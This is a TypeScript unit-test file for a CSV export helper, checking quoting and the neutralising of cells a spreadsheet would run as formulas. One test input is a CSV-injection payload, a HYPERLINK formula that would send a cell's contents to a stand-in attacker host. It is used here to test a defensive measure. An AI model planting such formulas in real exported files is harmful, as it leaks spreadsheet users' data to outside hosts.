import { toCsv } from './toCsv';

describe('toCsv', () => {
  it('quotes what needs quoting', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', 'say "hi"'],
          [1, undefined],
        ],
      ),
    ).toBe('a,b\r\n"x,y","say ""hi"""\r\n1,\r\n');
  });

  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
    expect(
      toCsv(['reason'], [['=HYPERLINK("http://evil.example/?d="&A1,"open")']]),
    ).toBe(
      `reason\r\n"'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")"\r\n`,
    );
    expect(
      toCsv(
        ['a'],
        [['+1+2'], ['-2+3'], ['@SUM(A1:A2)'], ['\t=1+1'], ['\r=1+1']],
      ),
    ).toBe(
      `a\r\n"'+1+2"\r\n"'-2+3"\r\n"'@SUM(A1:A2)"\r\n"'\t=1+1"\r\n"'\r=1+1"\r\n`,
    );
  });

  it('leaves numbers and text that only contains formula characters alone', () => {
    expect(
      toCsv(
        ['n', 't'],
        [
          [-3, 'plain'],
          [0, 'a-b=c @x'],
        ],
      ),
    ).toBe('n,t\r\n-3,plain\r\n0,a-b=c @x\r\n');
  });
});
